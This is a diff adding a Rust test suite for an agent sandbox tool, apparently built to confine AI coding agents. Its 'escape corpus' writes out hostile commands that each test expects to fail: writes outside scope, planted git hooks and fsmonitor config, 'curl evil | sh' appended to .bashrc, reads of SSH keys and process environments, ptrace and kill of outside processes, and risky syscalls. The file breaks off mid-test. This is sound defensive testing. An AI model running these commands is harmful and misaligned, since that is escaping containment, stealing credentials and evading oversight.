@@ -1,0 +1,1018 @@
+//! `agenthost sandbox`: the escape corpus and the positive cases.
+//!
+//! Every escape case runs a command as the sandboxed agent and then asserts *on disk* (or on
+//! the other process) that the forbidden effect did not happen, not only that the command
+//! failed. The fixture is a main repository `main/` with a linked worktree `wt/` (whose
+//! `.git` is a pointer file), a directory `outside/`, a fake home with an SSH key and a
+//! `.bashrc`, and the spec `task.md`:
+//!
+//! - Modify `src/app.py`; Create `src/new.py`, `NOTES.md`, `build/`; Do NOT modify `other/`.
+//!
+//! Tests skip (with a message) only where the kernel lacks Landlock ABI 6.
+
+use std::net::TcpListener;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use tempfile::TempDir;
+
+use super::{Run, Test};
+
+const SECRET_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key-7f3a";
+const SECRET_ENV: &str = "s3cr3t-token-value-91c2";
+const APP: &str = "print('app')\n";
+const KEEP: &str = "keep me\n";
+
+const SPEC: &str = "# Add a flag\n\n## What\nAdd a flag to the app.\n\n### Scope\n- Modify: `src/app.py`\n- Create: `src/new.py`, `NOTES.md`, `build/`\n- Do NOT modify `other/`\n";
+
+/// Whether this kernel can run the corpus; prints why not.
+fn supported() -> bool {
+    let support = agenthost_sandbox::Support::probe();
+    if support.landlock_abi < 6 || !support.seccomp {
+        eprintln!(
+            "SKIPPED: this kernel lacks Landlock ABI 6 or seccomp (Landlock ABI {}): the sandbox cannot be enforced here",
+            support.landlock_abi
+        );
+        return false;
+    }
+    true
+}
+
+/// The fixture, before running.
+fn fixture() -> Test {
+    let test = Test::new()
+        .file("main/src/app.py", APP)
+        .file("main/src/other.py", "other\n")
+        .file("main/README.md", "readme\n")
+        .file("main/other/keep.txt", KEEP)
+        .git_repo("main")
+        .file("outside/victim.txt", KEEP)
+        .file(".test-home/.ssh/id_ed25519", SECRET_KEY)
+        .file(".test-home/.bashrc", "# bashrc\n")
+        .file(".test-home/other-repo/secret.txt", SECRET_KEY)
+        .file("task.md", SPEC)
+        .file("config.toml", "");
+    let root = test.path().to_path_buf();
+    let repo = git2::Repository::open(root.join("main")).expect("open main");
+    repo.worktree("wt", &root.join("wt"), None)
+        .expect("git worktree add");
+    test
+}
+
+/// Printed first by every sandboxed script: proves the command ran (a case that passed
+/// because the sandbox never started would prove nothing).
+const RAN: &str = "__sandboxed_command_ran__\n";
+
+fn ran((mut run, dir): (Run, TempDir)) -> (Run, TempDir) {
+    assert!(
+        run.stdout.starts_with(RAN),
+        "the sandboxed command did not run:\n{}",
+        run.transcript()
+    );
+    run.stdout = run.stdout[RAN.len()..].to_string();
+    (run, dir)
+}
+
+/// Runs `script` with `sh -c` in the sandbox of `task.md`, rooted at the worktree.
+fn sandboxed(test: Test, script: &str) -> (Run, TempDir) {
+    let root = test.path().to_path_buf();
+    let script = format!("echo {}; {script}", RAN.trim());
+    ran(test
+        .env("AGENTHOST_TEST_SECRET", SECRET_ENV)
+        .env(
+            "AGENTHOST_CONFIG",
+            &root.join("config.toml").display().to_string(),
+        )
+        .args(["sandbox", "--spec"])
+        .arg(root.join("task.md").display().to_string())
+        .arg("--root")
+        .arg(root.join("wt").display().to_string())
+        .args(["--", "sh", "-c", &script])
+        .run_keep())
+}
+
+/// Runs `script` with the `tester` profile, which may connect to `port`.
+fn sandboxed_with_port(test: Test, port: u16, script: &str) -> (Run, TempDir) {
+    let config = format!("[agents.tester]\ncommand = [\"true\"]\nports = [{port}]\n");
+    let root = test.path().to_path_buf();
+    std::fs::write(root.join("config.toml"), config).expect("write config");
+    let script = format!("echo {}; {script}", RAN.trim());
+    ran(test
+        .env("AGENTHOST_TEST_SECRET", SECRET_ENV)
+        .env(
+            "AGENTHOST_CONFIG",
+            &root.join("config.toml").display().to_string(),
+        )
+        .args(["sandbox", "--profile", "tester", "--spec"])
+        .arg(root.join("task.md").display().to_string())
+        .arg("--root")
+        .arg(root.join("wt").display().to_string())
+        .args(["--", "sh", "-c", &script])
+        .run_keep())
+}
+
+fn read(dir: &TempDir, relative: &str) -> String {
+    std::fs::read_to_string(dir.path().join(relative)).unwrap_or_else(|e| panic!("{relative}: {e}"))
+}
+
+fn exists(dir: &TempDir, relative: &str) -> bool {
+    dir.path().join(relative).symlink_metadata().is_ok()
+}
+
+fn assert_unchanged(dir: &TempDir, relative: &str, expected: &str) {
+    assert_eq!(read(dir, relative), expected, "{relative} was changed");
+}
+
+fn assert_absent(dir: &TempDir, relative: &str) {
+    assert!(!exists(dir, relative), "{relative} exists");
+}
+
+/// One escape: run the script, then check the disk.
+macro_rules! escape {
+    ($name:ident, $script:expr, |$dir:ident, $run:ident| $check:block) => {
+        #[test]
+        fn $name() {
+            if !supported() {
+                return;
+            }
+            let ($run, $dir) = sandboxed(fixture(), $script);
+            let _ = &$run;
+            $check
+        }
+    };
+}
+
+// --- Writes outside the scope --------------------------------------------------------------
+
+escape!(
+    write_outside_scope,
+    "echo pwned > other/keep.txt",
+    |dir, run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+        assert!(run.stderr.contains("Permission denied"), "{}", run.stderr);
+    }
+);
+
+escape!(
+    append_outside_scope,
+    "echo pwned >> other/keep.txt",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+    }
+);
+
+escape!(
+    truncate_outside_scope,
+    "truncate -s 0 other/keep.txt; : > README.md",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+        assert_unchanged(&dir, "wt/README.md", "readme\n");
+    }
+);
+
+escape!(
+    unlink_outside_scope,
+    "rm -f other/keep.txt README.md",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+        assert_unchanged(&dir, "wt/README.md", "readme\n");
+    }
+);
+
+escape!(
+    unlink_modify_file_at_other_dir_level,
+    "rm -rf other",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+    }
+);
+
+escape!(
+    chmod_setuid_refused,
+    "cp /bin/sh build/sh && chmod u+s build/sh; chmod g+s build/sh",
+    |dir, _run| {
+        let mode = std::fs::metadata(dir.path().join("wt/build/sh"))
+            .expect("build/sh was copied")
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o6000, 0, "setuid/setgid bit set: {mode:o}");
+    }
+);
+
+escape!(
+    create_in_directory_outside_scope,
+    "echo x > other/new.txt; mkdir other/d; echo x > evil.txt",
+    |dir, _run| {
+        assert_absent(&dir, "wt/other/new.txt");
+        assert_absent(&dir, "wt/other/d");
+        assert_absent(&dir, "wt/evil.txt");
+    }
+);
+
+escape!(
+    create_directory_at_root,
+    "mkdir newdir; mkdir -p a/b",
+    |dir, _run| {
+        assert_absent(&dir, "wt/newdir");
+        assert_absent(&dir, "wt/a");
+    }
+);
+
+escape!(
+    rename_directory_at_root,
+    "mv src src2; mv other other2",
+    |dir, _run| {
+        assert!(exists(&dir, "wt/src/app.py"));
+        assert_absent(&dir, "wt/src2");
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+    }
+);
+
+escape!(
+    write_through_symlink_out_of_scope,
+    "ln -s ../other/keep.txt build/link; echo pwned > build/link; ln -s ../../outside/victim.txt build/v; echo pwned > build/v",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+        assert_unchanged(&dir, "outside/victim.txt", KEEP);
+    }
+);
+
+escape!(
+    write_through_symlink_in_tmpdir,
+    "ln -s \"$PWD/other/keep.txt\" \"$TMPDIR/l\"; echo pwned > \"$TMPDIR/l\"",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+    }
+);
+
+escape!(
+    write_through_proc_root,
+    "echo pwned > /proc/self/root\"$PWD\"/other/keep.txt",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+    }
+);
+
+escape!(
+    hard_link_protected_file_into_scope,
+    "ln other/keep.txt build/keep; ln README.md src/readme-link; ln other/keep.txt \"$TMPDIR/keep\" && echo pwned >> \"$TMPDIR/keep\"",
+    |dir, _run| {
+        assert_absent(&dir, "wt/build/keep");
+        assert_absent(&dir, "wt/src/readme-link");
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+    }
+);
+
+escape!(
+    rename_protected_file_into_scope,
+    "mv other/keep.txt build/keep.txt; mv README.md src/README.md",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/other/keep.txt", KEEP);
+        assert_absent(&dir, "wt/build/keep.txt");
+        assert_unchanged(&dir, "wt/README.md", "readme\n");
+        assert_absent(&dir, "wt/src/README.md");
+    }
+);
+
+escape!(
+    rename_scope_file_out_of_scope,
+    "mv src/app.py other/app.py; mv src/app.py ../outside/app.py",
+    |dir, _run| {
+        assert_unchanged(&dir, "wt/src/app.py", APP);
+        assert_absent(&dir, "wt/other/app.py");
+        assert_absent(&dir, "outside/app.py");
+    }
+);
+
+// --- .git ------------------------------------------------------------------------------------
+
+escape!(
+    replace_git_pointer_in_place,
+    "echo 'gitdir: /tmp/evil' > .git",
+    |dir, _run| {
+        assert!(read(&dir, "wt/.git").starts_with("gitdir: "));
+        assert!(read(&dir, "wt/.git").contains("main/.git/worktrees/wt"));
+    }
+);
+
+escape!(
+    replace_git_pointer_by_rename,
+    "echo 'gitdir: /tmp/evil' > build/g; mv build/g .git; rm -f .git; mv .git build/",
+    |dir, _run| {
+        assert!(read(&dir, "wt/.git").contains("main/.git/worktrees/wt"));
+        assert_absent(&dir, "wt/build/.git");
+    }
+);
+
+escape!(
+    write_git_hooks,
+    "mkdir -p ../main/.git/hooks; echo 'touch /tmp/owned' > ../main/.git/hooks/pre-commit; chmod +x ../main/.git/hooks/pre-commit",
+    |dir, _run| {
+        assert_absent(&dir, "main/.git/hooks/pre-commit");
+    }
+);
+
+escape!(
+    write_git_config,
+    "printf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' >> ../main/.git/config; git config core.fsmonitor 'touch /tmp/owned'",
+    |dir, _run| {
+        assert!(!read(&dir, "main/.git/config").contains("fsmonitor"));
+    }
+);
+
+escape!(
+    write_worktree_git_dir,
+    "echo 0000 > ../main/.git/worktrees/wt/HEAD; echo x > ../main/.git/worktrees/wt/index.lock; git commit --allow-empty -m x",
+    |dir, _run| {
+        assert!(read(&dir, "main/.git/worktrees/wt/HEAD").starts_with("ref: "));
+        assert_absent(&dir, "main/.git/worktrees/wt/index.lock");
+    }
+);
+
+escape!(
+    write_main_repository_refs_and_checkout,
+    "echo 0000 > ../main/.git/refs/heads/wt; echo pwned > ../main/README.md",
+    |dir, _run| {
+        assert_ne!(read(&dir, "main/.git/refs/heads/wt").trim(), "0000");
+        assert_unchanged(&dir, "main/README.md", "readme\n");
+    }
+);
+
+// --- Outside the worktree --------------------------------------------------------------------
+
+escape!(
+    write_outside_the_worktree,
+    "echo pwned > ../outside/victim.txt; echo x > ../outside/new.txt; echo x > ../task.md",
+    |dir, _run| {
+        assert_unchanged(&dir, "outside/victim.txt", KEEP);
+        assert_absent(&dir, "outside/new.txt");
+        assert_unchanged(&dir, "task.md", SPEC);
+    }
+);
+
+#[test]
+fn write_tmp() {
+    if !supported() {
+        return;
+    }
+    let name = format!("/tmp/agenthost-escape-{}", std::process::id());
+    let (_run, _dir) = sandboxed(
+        fixture(),
+        &format!("echo x > {name}; echo x > /dev/shm/agenthost-escape"),
+    );
+    assert!(!Path::new(&name).exists(), "{name} was created");
+}
+
+escape!(
+    write_home_and_bashrc,
+    "echo x > \"$HOME/evil\"; echo 'curl evil | sh' >> \"$HOME/.bashrc\"; mkdir \"$HOME/.config\"",
+    |dir, _run| {
+        assert_absent(&dir, ".test-home/evil");
+        assert_absent(&dir, ".test-home/.config");
+        assert_unchanged(&dir, ".test-home/.bashrc", "# bashrc\n");
+    }
+);
+
+escape!(
+    read_ssh_key,
+    "cat \"$HOME/.ssh/id_ed25519\" > build/leak; cat \"$HOME/other-repo/secret.txt\" >> build/leak; cat \"$HOME/.ssh/id_ed25519\"",
+    |dir, run| {
+        assert!(!read(&dir, "wt/build/leak").contains("not-a-real-key"));
+        assert!(!run.stdout.contains("not-a-real-key"));
+    }
+);
+
+escape!(
+    read_secret_environment_variable,
+    "env > build/env.txt; cat /proc/$PPID/environ > build/penv; tr '\\0' '\\n' < /proc/1/environ >> build/penv",
+    |dir, run| {
+        assert!(!read(&dir, "wt/build/env.txt").contains(SECRET_ENV));
+        assert!(!read(&dir, "wt/build/penv").contains(SECRET_ENV));
+        assert!(!run.stdout.contains(SECRET_ENV));
+    }
+);
+
+escape!(
+    mknod_and_mkfifo_outside_scope,
+    "mknod other/null c 1 3; mkfifo other/fifo; mkfifo build/fifo; mknod build/null c 1 3",
+    |dir, _run| {
+        assert_absent(&dir, "wt/other/null");
+        assert_absent(&dir, "wt/other/fifo");
+        assert_absent(&dir, "wt/build/fifo");
+        assert_absent(&dir, "wt/build/null");
+    }
+);
+
+// --- Processes, sockets, kernel interfaces ---------------------------------------------------
+
+/// A process outside the sandbox for the sandbox to attack; killed on drop.
+struct Victim(std::process::Child);
+
+impl Victim {
+    fn start() -> Victim {
+        Victim(
+            Command::new("sleep")
+                .arg("60")
+                .spawn()
+                .expect("spawn sleep"),
+        )
+    }
+    fn pid(&self) -> u32 {
+        self.0.id()
+    }
+    fn alive(&mut self) -> bool {
+        self.0.try_wait().expect("try_wait").is_none()
+    }
+    fn tracer(&self) -> String {
+        let status =
+            std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap_or_default();
+        status
+            .lines()
+            .find(|l| l.starts_with("TracerPid:"))
+            .unwrap_or("")
+            .to_string()
+    }
+}
+
+impl Drop for Victim {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn signal_a_process_outside() {
+    if !supported() {
+        return;
+    }
+    let mut victim = Victim::start();
+    let (run, _dir) = sandboxed(
+        fixture(),
+        &format!(
+            "kill -TERM {0}; kill -KILL {0}; kill -STOP {0}; echo done",
+            victim.pid()
+        ),
+    );
+    assert!(run.stdout.contains("done"), "{}", run.transcript());
+    assert!(victim.alive(), "the sandbox killed a process outside it");
+    let state = std::fs::read_to_string(format!("/proc/{}/stat", victim.pid())).unwrap_or_default();
+    assert!(
+        !state.contains(") T "),
+        "the sandbox stopped a process outside it: {state}"
+    );
+}
+
+#[test]
+fn ptrace_a_process_outside() {
+    if !supported() {
+        return;
+    }
+    let mut victim = Victim::start();
+    let script = format!(
+        "python3 -c 'import ctypes,os; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(16,{0},0,0); print(\"ptrace\",r,os.strerror(ctypes.get_errno()))'; \
+         python3 -c 'import ctypes; l=ctypes.CDLL(None,use_errno=True); print(\"vm\", l.syscall(310,{0},0,0,0,0,0))'",
+        victim.pid()
+    );
+    let (run, _dir) = sandboxed(fixture(), &script);
+    assert!(run.stdout.contains("ptrace -1"), "{}", run.transcript());
+    assert!(run.stdout.contains("vm -1"), "{}", run.transcript());
+    assert!(victim.alive());
+    assert_eq!(victim.tracer(), "TracerPid:\t0");
+}
+
+#[test]
+fn connect_to_unix_sockets_of_the_host() {
+    if !supported() {
+        return;
+    }
+    use std::os::linux::net::SocketAddrExt;
+    let name = format!("agenthost-test-{}", std::process::id());
+    let addr =
+        std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract addr");
+    let abstract_listener = UnixListener::bind_addr(&addr).expect("bind abstract");
+    abstract_listener
+        .set_nonblocking(true)
+        .expect("nonblocking");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("host.sock");
+    let path_listener = UnixListener::bind(&path).expect("bind path");
+    path_listener.set_nonblocking(true).expect("nonblocking");
+
+    let script = format!(
+        "python3 -c '\nimport socket\nfor a in [\"\\0{name}\", \"{path}\"]:\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect(a); s.send(b\"hi\"); print(\"connected\")\n  except OSError as e: print(\"refused\", e)\na,b=socket.socketpair(); a.send(b\"x\"); print(\"pair\", b.recv(1))\n'",
+        path = path.display()
+    );
+    let (run, _dir) = sandboxed(fixture(), &script);
+    assert!(!run.stdout.contains("connected"), "{}", run.transcript());
+    assert!(
+        run.stdout.contains("pair b'x'"),
+        "socketpair must work: {}",
+        run.transcript()
+    );
+    assert!(
+        abstract_listener.accept().is_err(),
+        "the abstract socket got a connection"
+    );
+    assert!(
+        path_listener.accept().is_err(),
+        "the pathname socket got a connection"
+    );
+}
+
+/// Connects to `port` on loopback from Python; prints `connected` or `refused`.
+fn python_connect(port: u16) -> String {
+    format!(
+        "python3 -c '\nimport socket\ntry:\n  s=socket.create_connection((\"127.0.0.1\",{port}),timeout=2); s.send(b\"hi\"); print(\"connected {port}\")\nexcept OSError as e: print(\"refused {port}\", e)\n'"
+    )
+}
+
+#[test]
+fn tcp_connect_offline() {
+    if !supported() {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let (run, _dir) = sandboxed(fixture(), &python_connect(port));
+    assert!(
+        run.stdout.contains(&format!("refused {port}")),
+        "{}",
+        run.transcript()
+    );
+    assert!(listener.accept().is_err(), "the listener got a connection");
+}
+
+#[test]
+fn tcp_connect_only_to_granted_ports() {
+    if !supported() {
+        return;
+    }
+    let granted = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let denied = TcpListener::bind("127.0.0.1:0").expect("bind");
+    granted.set_nonblocking(true).expect("nonblocking");
+    denied.set_nonblocking(true).expect("nonblocking");
+    let granted_port = granted.local_addr().expect("addr").port();
+    let denied_port = denied.local_addr().expect("addr").port();
+    let script = format!(
+        "{}; {}",
+        python_connect(denied_port),
+        python_connect(granted_port)
+    );
+    let (run, _dir) = sandboxed_with_port(fixture(), granted_port, &script);
+    assert!(
+        run.stdout.contains(&format!("refused {denied_port}")),
+        "{}",
+        run.transcript()
+    );
+    assert!(denied.accept().is_err(), "the denied port got a connection");
+    assert!(
+        run.stdout.contains(&format!("connected {granted_port}")),
+        "{}",
+        run.transcript()
+    );
+    assert!(
+        granted.accept().is_ok(),
+        "the granted port got no connection"
+    );
+}
+
+#[test]
+fn bind_a_port() {
+    if !supported() {
+        return;
+    }
+    let script = "python3 -c '\nimport socket\ntry:\n  s=socket.socket(); s.bind((\"127.0.0.1\",0)); s.listen(); print(\"listening\", s.getsockname()[1])\nexcept OSError as e: print(\"refused\", e)\n'";
+    let (run, _dir) = sandboxed_with_port(fixture(), 9, script);
+    assert!(run.stdout.contains("refused"), "{}", run.transcript());
+    assert!(!run.stdout.contains("listening"), "{}", run.transcript());
+}
+
+/// Runs a raw system call from Python and prints `NAME RESULT ERRNO-NAME`.
+fn python_syscalls(calls: &[(&str, &str)]) -> String {
+    let mut body = String::from(
+        "import ctypes,errno\nl=ctypes.CDLL(None,use_errno=True)\nl.syscall.restype=ctypes.c_long\n",
+    );
+    for (name, args) in calls {
+        body.push_str(&format!(
+            "r=l.syscall({args}); print(\"{name}\", r, errno.errorcode.get(ctypes.get_errno(),\"0\"))\n"
+        ));
+    }
+    format!("python3 -c '{body}'")
+}
+
+#[test]
+fn kernel_interfaces_are_refused() {
+    if !supported() {
+        return;
+    }
+    // x86-64 numbers (the corpus runs where CI runs).
+    let script = python_syscalls(&[
+        ("io_uring_setup", "425, 8, ctypes.create_string_buffer(120)"),
+        ("bpf", "321, 0, 0, 0"),
+        ("keyctl", "250, 0, 0, 0, 0, 0"),
+        ("add_key", "248, b\"user\", b\"k\", b\"v\", 1, -4"),
+        ("unshare_user", "272, 0x10000000"),
+        ("userfaultfd", "323, 0"),
+        ("perf_event_open", "298, 0, 0, -1, -1, 0"),
+        ("clone3", "435, 0, 0"),
+        ("socket_packet", "41, 17, 3, 0"),
+        ("socket_vsock", "41, 40, 1, 0"),
+        ("tiocsti", "16, 0, 0x5412, ctypes.c_char_p(b\"x\")"),
+    ]);
+    let (run, _dir) = sandboxed(fixture(), &script);
+    for name in [
+        "io_uring_setup",
+        "bpf",
+        "keyctl",
+        "add_key",
+        "unshare_user",
+        "userfaultfd",
+        "perf_event_open",
+        "socket_packet",
+        "socket_vsock",
+        "tiocsti",
+    ] {
+        assert!(
+            run.stdout.contains(&format!("{name} -1 EPERM")),
+            "{name} was not refused with EPERM:\n{}",
+            run.transcript()
+        );
+    }
+    assert!(
+        run.stdout.contains("clone3 -1 ENOSYS"),
+        "{}",
+        run.transcript()
+    );
+}
+
+escape!(
+    user_namespace_via_unshare,
+    "unshare -Ur touch /tmp/agenthost-userns-escape; echo rc=$?",
+    |_dir, run| {
+        assert!(!run.stdout.contains("rc=0"), "{}", run.transcript());
+        assert!(!Path::new("/tmp/agenthost-userns-escape").exists());
+    }
+);
+
+#[test]
+fn setuid_binary_gains_nothing() {
+    if !supported() {
+        return;
+    }
+    let test = fixture();
+    let tool = test.path().join("wt/suid-cat");
+    std::fs::copy("/bin/cat", &tool).expect("copy cat");
+    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o4755)).expect("chmod");
+    let (run, _dir) = sandboxed(test, "./suid-cat /proc/self/status");
+    assert!(
+        run.stdout.contains("CapEff:\t0000000000000000"),
+        "{}",
+        run.transcript()
+    );
+    assert!(
+        run.stdout.contains("CapPrm:\t0000000000000000"),
+        "{}",
+        run.transcript()
+    );
+    assert!(
+        run.stdout.contains("NoNewPrivs:\t1"),
+        "{}",
+        run.transcript()
+    );
+}
+
+escape!(
+    capabilities_are_dropped,
+    "cat /proc/self/status",
+    |_dir, run| {
+        for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+            assert!(
+                run.stdout.contains(&format!("{set}:\t0000000000000000")),
+                "{set}: {}",
+                run.stdout
+            );
+        }
+        assert!(run.stdout.contains("NoNewPrivs:\t1"));
+        assert!(run.stdout.contains("Seccomp:\t2"));
+    }
+);
+
+#[test]
+fn inherited_descriptor_is_closed() {
+    if !supported() {
+        return;
+    }
+    let test = fixture();
+    let root = test.path().to_path_buf();
+    let home = root.join(".test-home");
+    let status = Command::new("sh")
+        .arg("-c")
+        .arg("exec 7>>\"$1\"; exec \"$2\" sandbox --spec \"$3\" --root \"$4\" -- sh -c 'echo leaked >&7; ls /proc/self/fd'")
+        .arg("sh")
+        .arg(root.join("outside/victim.txt"))
+        .arg(env!("CARGO_BIN_EXE_agenthost"))
+        .arg(root.join("task.md"))
+        .arg(root.join("wt"))
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", &home)
+        .env("XDG_CONFIG_HOME", home.join("config"))
+        .output()
+        .expect("run");
+    let fds = String::from_utf8_lossy(&status.stdout);
+    assert!(
+        !fds.lines().any(|l| l.trim() == "7"),
+        "fd 7 reached the sandbox: {fds}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(root.join("outside/victim.txt")).expect("read"),
+        KEEP
+    );
+}
+
+#[test]
+fn sandbox_dies_with_agenthost() {
+    if !supported() {
+        return;
+    }
+    let test = fixture();
+    let root = test.path().to_path_buf();
+    let marker = root.join("wt/build/survived");
+    let mut child = Command::new(env!("CARGO_BIN_EXE_agenthost"))
+        .args(["sandbox", "--spec"])
+        .arg(root.join("task.md"))
+        .arg("--root")
+        .arg(root.join("wt"))
+        .args(["--", "sh", "-c", "sleep 2; echo x > build/survived"])
+        .env("HOME", root.join(".test-home"))
+        .spawn()
+        .expect("spawn");
+    std::thread::sleep(std::time::Duration::from_millis(500));
+    child.kill().expect("kill agenthost");
+    let _ = child.wait();
+    std::thread::sleep(std::time::Duration::from_millis(2500));
+    assert!(!marker.exists(), "the sandboxed command outlived agenthost");
+}
+
+// --- What must keep working ------------------------------------------------------------------
+
+escape!(
+    edit_modify_file_in_place,
+    "printf 'print(2)\\n' > src/app.py",
+    |dir, run| {
+        assert_eq!(run.code, 0, "{}", run.transcript());
+        assert_unchanged(&dir, "wt/src/app.py", "print(2)\n");
+    }
+);
+
+escape!(
+    atomic_rename_save_of_modify_file,
+    "set -e; printf 'print(3)\\n' > src/app.py.tmp.123.abc; chmod 644 src/app.py.tmp.123.abc; mv src/app.py.tmp.123.abc src/app.py",
+    |dir, run| {
+        assert_eq!(run.code, 0, "{}", run.transcript());
+        assert_unchanged(&dir, "wt/src/app.py", "print(3)\n");
+        assert_absent(&dir, "wt/src/app.py.tmp.123.abc");
+    }
+);
+
+escape!(
+    create_files_in_scope,
+    "set -e; echo new > src/new.py; echo notes > NOTES.md; mkdir -p build/a/b; echo o > build/a/b/out.o; rm build/a/b/out.o",
+    |dir, run| {
+        assert_eq!(run.code, 0, "{}", run.transcript());
+        assert_unchanged(&dir, "wt/src/new.py", "new\n");
+        assert_unchanged(&dir, "wt/NOTES.md", "notes\n");
+        assert!(exists(&dir, "wt/build/a/b"));
+    }
+);
+
+escape!(unused_root_create_target_is_removed, "true", |dir, run| {
+    assert_eq!(run.code, 0, "{}", run.transcript());
+    assert_absent(&dir, "wt/NOTES.md");
+    assert_absent(&dir, "wt/build");
+});
+
+escape!(
+    git_status_and_diff_inside,
+    "set -e; printf 'print(4)\\n' > src/app.py; git status --short; git diff --stat; git log --oneline -1 >/dev/null",
+    |_dir, run| {
+        assert_eq!(run.code, 0, "{}", run.transcript());
+        assert!(run.stdout.contains(" M src/app.py"), "{}", run.transcript());
+        assert!(
+            run.stdout.contains("1 file changed"),
+            "{}",
+            run.transcript()
+        );
+    }
+);
+
+escape!(
+    tools_run_inside,
+    "set -e; sh -c 'echo sh-ok'; python3 -c 'print(\"python-ok\")'; git --version; echo tmp > \"$TMPDIR/scratch\"; cat \"$TMPDIR/scratch\"",
+    |_dir, run| {
+        assert_eq!(run.code, 0, "{}", run.transcript());
+        for expected in ["sh-ok", "python-ok", "git version", "tmp"] {
+            assert!(
+                run.stdout.contains(expected),
+                "{expected}: {}",
+                run.transcript()
+            );
+        }
+    }
+);
+
+#[test]
+fn cargo_runs_inside() {
+    if !supported() {
+        return;
+    }
+    let Some(rustup_home) = std::env::var_os("RUSTUP_HOME")
+        .map(PathBuf::from)
+        .or_else(|| dirs::home_dir().map(|h| h.join(".rustup")))
+        .filter(|p| p.exists())
+    else {
+        eprintln!("SKIPPED: no rustup installation to test `cargo --version` with");
+        return;
+    };
+    let test = fixture().env("RUSTUP_HOME", &rustup_home.display().to_string());
+    let (run, _dir) = sandboxed(test, "cargo --version");
+    assert_eq!(run.code, 0, "{}", run.transcript());
+    assert!(run.stdout.starts_with("cargo "), "{}", run.transcript());
+}
+
+escape!(environment_is_clean, "env", |_dir, run| {
+    let names: Vec<&str> = run
+        .stdout
+        .lines()
+        .filter_map(|l| l.split('=').next())
+        .collect();
+    let allowed = [
+        "PATH",
+        "HOME",
+        "TMPDIR",
+        "LANG",
+        "TERM",
+        "PWD",
+        "SHLVL",
+        "_",
+        "OLDPWD",
+        "CARGO_HOME",
+        "RUSTUP_HOME",
+        "RUSTUP_TOOLCHAIN",
+        "PYENV_ROOT",
+        "PYENV_VERSION",
+        "GOROOT",
+        "JAVA_HOME",
+        "NVM_DIR",
+    ];
+    for name in &names {
+        assert!(
+            allowed.contains(name),
+            "unexpected variable {name}: {}",
+            run.stdout
+        );
+    }
+    assert!(!run.stdout.contains(SECRET_ENV));
+    assert!(!run.stdout.contains("XDG_CONFIG_HOME"));
+});
+
+escape!(exit_code_passes_through, "exit 7", |_dir, run| {
+    assert_eq!(run.code, 7, "{}", run.transcript());
+});
+
+escape!(
+    signal_death_maps_to_128_plus_signal,
+    "kill -TERM $$",
+    |_dir, run| {
+        assert_eq!(run.code, 128 + 15, "{}", run.transcript());
+    }
+);
+
+escape!(
+    missing_command_is_127,
+    "exec /nonexistent/tool",
+    |_dir, run| {
+        assert_eq!(run.code, 127, "{}", run.transcript());
+    }
+);
+
+escape!(
+    private_tmpdir_is_removed,
+    "echo \"$TMPDIR\"",
+    |_dir, run| {
+        let tmpdir = run.stdout.trim();
+        assert!(tmpdir.contains("agenthost-sandbox-"), "{tmpdir}");
+        assert!(!Path::new(tmpdir).exists(), "{tmpdir} is still there");
+    }
+);
+
+#[test]
+fn explain_names_every_rule_and_its_origin() {
+    let test = fixture();
+    let root = test.path().to_path_buf();
+    let run = test
+        .args(["sandbox", "--explain", "--spec"])
+        .arg(root.join("task.md").display().to_string())
+        .arg("--root")
+        .arg(root.join("wt").display().to_string())
+        .run();
+    assert_eq!(run.code, 0, "{}", run.transcript());
+    for expected in [
+        "  src/app.py\n      file: read_file write_file truncate\n      task.md:7: Modify `src/app.py`",
+        "  src/\n      tree: write_file truncate make_reg remove_file\n      task.md:7, task.md:8: Modify `src/app.py`",
+        "  NOTES.md\n      file: read_file write_file truncate\n      task.md:8: Create `NOTES.md`: at the worktree root, so pre-created empty",
+        "  build/\n      tree: execute read_file read_dir write_file truncate make_reg make_dir make_sym remove_file remove_dir refer\n      task.md:8: Create `build/`",
+        "git dir, read-only",
+        "TCP connect: none",
+        "Do NOT modify `other/`",
+    ] {
+        assert!(
+            run.stdout.contains(expected),
+            "missing {expected:?} in:\n{}",
+            run.stdout
+        );
+    }
+    assert!(!run.stdout.contains("other/keep.txt"));
+    assert!(
+        !root.join("wt/NOTES.md").exists(),
+        "--explain must not touch the disk"
+    );
+}
+
+#[test]
+fn refuses_a_grant_that_makes_git_writable() {
+    let test = fixture();
+    let root = test.path().to_path_buf();
+    std::fs::write(
+        root.join("config.toml"),
+        format!(
+            "[agents.wide]\ncommand = [\"true\"]\nwrite = [\"{}\"]\n",
+            root.display()
+        ),
+    )
+    .expect("config");
+    let run = test
+        .env(
+            "AGENTHOST_CONFIG",
